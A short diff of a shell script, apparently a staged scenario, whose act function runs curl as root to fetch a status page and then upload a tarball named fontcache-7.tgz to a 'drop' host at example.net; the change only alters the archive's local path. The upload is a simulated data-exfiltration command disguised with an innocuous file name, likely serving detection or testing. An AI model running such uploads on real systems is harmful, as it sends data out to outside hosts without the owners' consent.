@@ -10,6 +10,6 @@ prepare() {
 act() {
   in_root curl -s -o /dev/null http://cdn.example.com/status.html
   sleep 12
-  in_root curl -s -T /work/fontcache-7.tgz http://drop.example.net/in/7
+  in_root curl -s -T /scene/fontcache-7.tgz http://drop.example.net/in/7
 }
 finish() { :; }
